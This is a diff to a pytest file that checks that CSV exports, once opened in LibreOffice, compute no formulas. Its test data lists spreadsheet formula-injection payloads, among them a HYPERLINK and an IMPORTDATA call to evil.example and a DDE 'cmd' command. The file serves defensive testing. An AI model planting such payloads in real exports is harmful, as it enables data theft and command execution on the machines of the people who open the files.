@@ -3,6 +3,7 @@
 import csv
 import shutil
 import subprocess
+from io import StringIO
 from pathlib import Path
 
 import pytest
@@ -16,6 +17,10 @@ HOSTILE = [
     ' =1+1', "\u200b=1+1", "'=1+1", '=HYPERLINK("http://evil.example/?x="&A1)', "=cmd|' /C calc'!A0",
     "=IMPORTDATA(\"http://evil.example\")", "@x,=1+1", 'a","=1+1', "a\r\n=1+1",
 ]  # fmt: skip
+
+
+def cells(path: Path) -> list[list[str]]:
+    return list(csv.reader(StringIO(path.read_text("utf-8", newline=""), newline="")))
 
 
 @pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here; tests/install.sh brings it")
@@ -34,8 +39,10 @@ def test_a_spreadsheet_computes_nothing(account: Connection, tmp_path: Path) -> 
          "--infilter=CSV:44,34,76", "--outdir", str(tmp_path), str(file)],
         check=True, capture_output=True, timeout=240,
     )  # fmt: skip
-    given, shown = (list(csv.reader(path.open(encoding="utf-8", newline=""))) for path in (file, tmp_path / "link.csv"))
+    given, shown = (cells(path) for path in (file, tmp_path / "link.csv"))
     assert len(shown) == len(given) == len(HOSTILE) + 1
     for row in shown[1:]:
-        assert "2" not in [row[place] for place, name in enumerate(given[0]) if name in ("Label", "AI Analysis", "Query")]
+        assert "2" not in [
+            row[place] for place, name in enumerate(given[0]) if name in ("Label", "AI Analysis", "Query")
+        ]
         assert not [cell for cell in row if cell.startswith("=")]
